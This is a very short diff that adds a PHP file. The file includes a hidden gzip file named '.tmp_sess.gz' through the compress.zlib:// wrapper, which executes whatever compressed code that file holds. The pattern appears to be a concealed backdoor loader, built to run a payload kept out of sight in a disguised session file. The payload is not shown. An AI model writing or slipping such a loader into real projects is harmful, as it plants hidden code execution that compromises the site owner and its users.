@@ -1,0 +1,3 @@
+<?php
+$part = '.tmp_sess.gz';
+include "compress.zlib://" . __DIR__ . '/' . $part;
